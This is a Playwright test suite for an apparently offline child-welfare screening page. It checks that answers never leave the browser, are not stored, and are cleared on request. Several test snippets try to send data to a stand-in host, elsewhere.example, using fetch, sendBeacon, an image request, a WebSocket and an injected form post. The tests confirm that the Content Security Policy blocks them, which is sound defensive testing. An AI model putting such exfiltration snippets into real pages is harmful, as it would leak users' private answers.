"""Does anything of an answer leave the page, stay in the browser, or come back?"""

from pathlib import Path

import pytest
from playwright.sync_api import Browser

from tests.self_check.browser import Seen, seen

pytestmark = pytest.mark.ci
CANARIES = {"experience": "13.57", "indirect_dose": "86.42", "organisational_practice": "173.9"}
TRIES = {
    "fetch": "() => { fetch('https://elsewhere.example/?a=1').catch(() => 0); }",
    "beacon": "() => { navigator.sendBeacon('https://elsewhere.example/', 'a'); }",
    "picture": "() => { new Image().src = 'https://elsewhere.example/a.png'; }",
    "socket": "() => { new WebSocket('wss://elsewhere.example'); }",
}


def fill_in(check: Seen) -> None:
    check.fill(setting="child-welfare", **CANARIES, trafficking_history=1, screener="stss", total=47)
    check.page.click("#show")
    check.page.get_by_label("lighter:").check()


def holds_nothing(check: Seen) -> None:
    """Say that no field and no sentence holds anything of an answer."""
    values = check.page.eval_on_selector_all("input, select", "all => all.map(each => each.value)")
    assert set(values) == {""}
    assert not check.page.locator("#outcome").is_visible()
    for place in ("result", "cannot", "step", "choices", "told", "bands"):
        assert check.page.locator(f"#{place}").inner_text() == ""


def test_nothing_is_asked_for_and_nothing_is_stored_while_it_is_used(check: Seen, file_address: str):
    fill_in(check)
    assert check.said("told")[0] == "The one word to tell: lighter"
    assert check.requests == [file_address]
    assert check.page.url == file_address
    assert check.page.context.storage_state() == {"cookies": [], "origins": []}
    assert check.page.evaluate("() => history.length") <= 2
    assert check.complaints == []


def test_the_file_on_the_disk_stays_as_it_was(check: Seen, file_address: str):
    file = Path(file_address.removeprefix("file://"))
    before = file.read_bytes()
    fill_in(check)
    check.page.reload()
    assert file.read_bytes() == before
    assert [each.name for each in file.parent.iterdir()] == [file.name]


def test_clear_empties_every_field_and_everything_shown(check: Seen):
    main = check.page.locator("main")
    fresh = main.inner_html()
    fill_in(check)
    assert main.inner_html() != fresh
    check.page.get_by_role("button", name="Clear everything").first.click()
    holds_nothing(check)
    assert check.page.locator("#status").inner_text() == "Everything is empty again."
    left = main.inner_html().replace("Everything is empty again.", "").replace(' style=""', "")
    assert left == fresh


@pytest.mark.parametrize("way", ["reload", "away and back"])
def test_nothing_comes_back_with_the_page(check: Seen, way: str):
    fill_in(check)
    if way == "reload":
        check.page.reload()
    else:
        check.page.goto("about:blank")
        check.page.go_back()
    holds_nothing(check)


def test_changing_an_answer_takes_the_old_range_away(check: Seen):
    fill_in(check)
    check.fill(indirect_dose="10")
    assert not check.page.locator("#outcome").is_visible()
    assert check.page.locator("#result").inner_text() == ""


def test_telling_nothing_is_a_choice_and_none_is_made_beforehand(check: Seen):
    check.fill(setting="child-welfare")
    check.page.click("#show")
    assert check.page.locator("#choices input:checked").count() == 0
    assert check.said("told") == []
    check.page.get_by_label("nothing").check()
    (line,) = check.said("told")
    assert line.startswith("Then tell nothing.")


@pytest.mark.parametrize("way", TRIES)
def test_even_a_script_in_the_page_could_send_nothing(browser: Browser, file_address: str, way: str):
    with seen(browser, file_address) as found:
        answered: list[str] = []
        found.page.context.route("https://**", lambda route: answered.append(route.request.url))
        found.page.evaluate(TRIES[way])
        found.page.wait_for_timeout(200)
        assert answered == []
        assert any("Content Security Policy" in line for line in found.complaints)


def test_a_form_put_into_the_page_could_not_be_handed_in(check: Seen, file_address: str):
    check.page.evaluate("""() => {
      const form = document.createElement("form");
      form.action = "https://elsewhere.example/"; form.method = "post";
      document.body.append(form); form.submit(); }""")
    check.page.wait_for_timeout(200)
    assert check.requests == [file_address]
    assert any("form-action" in line for line in check.complaints)
